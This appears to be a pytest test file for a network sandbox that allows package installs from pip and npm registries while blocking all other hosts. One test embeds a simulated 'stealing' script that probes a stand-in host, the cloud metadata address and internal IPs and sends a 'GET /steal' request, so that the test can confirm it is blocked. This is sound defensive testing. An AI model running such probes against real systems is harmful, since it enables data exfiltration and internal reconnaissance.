"""End to end: a package is installed from the registry that is allowed, and nothing else is reachable."""

import pytest

PIP = ["/usr/bin/python3", "-m", "pip", "--disable-pip-version-check", "--no-cache-dir", "install", "--break-system-packages"]


@pytest.fixture
def ca(world):
    return world.folder / "ca.pem"


def pip(sandboxes, ca, target, **options):
    return sandboxes.run(*PIP, "--retries", "0", "--timeout", "60", "--target", target, "demo-package", env={"PIP_CERT": str(ca)}, **options)


@pytest.mark.parametrize("flags", [[], ["--proxy"]])
def test_pip(sandboxes, ca, workdir, flags):
    outcome = pip(sandboxes, ca, workdir / "site", allow=["pypi.org", "*.pythonhosted.org:443"], flags=flags)
    assert outcome.code == 0, outcome.err
    assert (workdir / "site" / "demo_package.py").read_text() == "answer = 42\n"
    assert {line["host"] for line in outcome.requests()} == {"pypi.org", "files.pythonhosted.org"}
    assert all(line["verdict"] == "allowed" for line in outcome.audit if line["protocol"] == "tls")


def test_pip_without_the_second_host(sandboxes, ca, workdir):
    outcome = pip(sandboxes, ca, workdir / "site", allow=["pypi.org"])
    assert outcome.code != 0 and not (workdir / "site" / "demo_package.py").exists()
    assert "name_not_listed" in outcome.reasons(name="files.pythonhosted.org")


def npm(sandboxes, ca, folder, **options):
    folder.mkdir(exist_ok=True)
    return sandboxes.run("npm", "install", "--prefix", folder, "--cache", folder / "cache", "--no-audit", "--no-fund", "--no-update-notifier",
                         "--fetch-retries", "0", "--registry", "https://registry.npmjs.org/", "demo-package",
                         env={"NODE_EXTRA_CA_CERTS": str(ca)}, **options)


@pytest.mark.requires("program:npm")
@pytest.mark.parametrize("flags", [[], ["--proxy"]])
def test_npm(sandboxes, ca, workdir, flags):
    outcome = npm(sandboxes, ca, workdir / "project", allow=["registry.npmjs.org"], flags=flags)
    assert outcome.code == 0, outcome.err
    assert (workdir / "project/node_modules/demo-package/index.js").read_text() == "module.exports = 42;\n"
    assert {line["host"] for line in outcome.requests()} == {"registry.npmjs.org"}


@pytest.mark.requires("program:npm")
def test_npm_from_a_registry_that_is_not_allowed(sandboxes, ca, workdir):
    outcome = npm(sandboxes, ca, workdir / "project", allow=["pypi.org"])
    assert outcome.code != 0 and not outcome.seen
    assert "name_not_listed" in outcome.reasons(name="registry.npmjs.org")


def test_a_package_that_steals(sandboxes, ca, workdir):
    """While the registry works, what a package's script tries does not."""
    script = ("import json,socket,sys\n"
              "for target in ('elsewhere.example','66.66.66.66','169.254.169.254','10.0.0.1','81.2.3.4','127.0.0.1'):\n"
              "    for port in (80, 443, 22, 8080):\n"
              "        try:\n"
              "            with socket.create_connection((target, port), timeout=3) as c:\n"
              "                c.sendall(b'GET /steal HTTP/1.1\\r\\nHost: elsewhere.example\\r\\nConnection: close\\r\\n\\r\\n')\n"
              "                data = c.recv(1000)\n"
              "                print(target, port, data[:20])\n"
              "        except OSError as error: pass\n")
    command = " ".join(map(str, PIP)) + f" --target {workdir / 'site'} demo-package >/dev/null && echo installed && /usr/bin/python3 -c '$SCRIPT'"
    outcome = sandboxes.run("sh", "-c", command.replace("'$SCRIPT'", '"$SCRIPT"'), env={"PIP_CERT": str(ca), "SCRIPT": script},
                            allow=["pypi.org", "*.pythonhosted.org"])
    assert outcome.out.splitlines() == ["installed"], outcome.out + outcome.err
    assert not [line for line in outcome.seen + outcome.seen_by_host if line.get("path") == "/steal"]
    control = sandboxes.run("/usr/bin/python3", "-c", script, flags=["--uncontrolled"])
    assert len(control.out.splitlines()) >= 10
